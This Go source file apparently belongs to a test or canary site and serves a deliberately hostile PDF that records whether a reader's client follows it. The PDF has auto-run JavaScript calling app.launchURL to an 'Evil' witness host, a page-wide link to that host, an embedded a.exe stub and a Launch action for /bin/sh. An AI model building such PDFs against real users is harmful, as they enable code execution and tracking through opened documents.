package hostile

import (
	"bytes"
	"fmt"
	"net/http"
	"strings"
)

// pdf sends a document whose whole page is a link to the witness, which runs
// a script and an action when it is opened, and has a file attached.
func (s *Site) pdf(w http.ResponseWriter, r *http.Request) {
	v := s.visit(r.URL.RawQuery + r.Referer())
	n := s.names(r.Host, v.Token)
	w.Header().Set("Content-Type", "application/pdf")
	if as := r.FormValue("as"); as != "" {
		w.Header().Set("Content-Disposition", as+`; filename="`+r.PathValue("name")+`"`)
	}
	s.note(v, "pdf sent")
	_, _ = w.Write(hostilePDF(n)) // fails when the browser has gone
}

func hostilePDF(n names) []byte {
	link := n.Evil + "/reached/pdf-link?" + n.Token
	content := "BT /F1 40 Tf 60 700 Td (Attestation) Tj 0 -60 Td (" + n.Token + ") Tj ET"
	stream := func(extra, data string) string {
		return fmt.Sprintf("<< %s/Length %d >>\nstream\n%s\nendstream", extra, len(data), data)
	}
	return pdfFile([]string{
		"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC 6 0 R >> /Names << /EmbeddedFiles << /Names [(a.exe) 8 0 R] >> /JavaScript << /Names [(a) 6 0 R] >> >> >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /Annots [7 0 R 10 0 R] >>",
		stream("", content),
		"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
		"<< /S /JavaScript /JS (app.launchURL\\(" + pdfText(n.Evil+"/reached/pdf-script?"+n.Token) + "\\); this.print\\(\\);) >>",
		"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /Border [0 0 0] /A << /S /URI /URI " + pdfText(link) + " >> >>",
		"<< /Type /Filespec /F (" + n.Token + ".exe) /UF (" + n.Token + ".exe) /EF << /F 9 0 R >> >>",
		stream("/Type /EmbeddedFile ", "MZ hostile"),
		"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /Launch /F (/bin/sh) >> >>",
	})
}

func pdfText(s string) string {
	return "(" + strings.NewReplacer("\\", "\\\\", "(", "\\(", ")", "\\)").Replace(s) + ")"
}

// pdfFile puts objects, numbered from 1, into a file (ISO 32000-1, 7.5).
func pdfFile(objects []string) []byte {
	var b bytes.Buffer
	b.WriteString("%PDF-1.7\n")
	at := make([]int, len(objects))
	for i, o := range objects {
		at[i] = b.Len()
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	start := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(objects)+1)
	for _, offset := range at {
		fmt.Fprintf(&b, "%010d 00000 n \n", offset)
	}
	fmt.Fprintf(&b, "trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n", len(objects)+1, start)
	return b.Bytes()
}
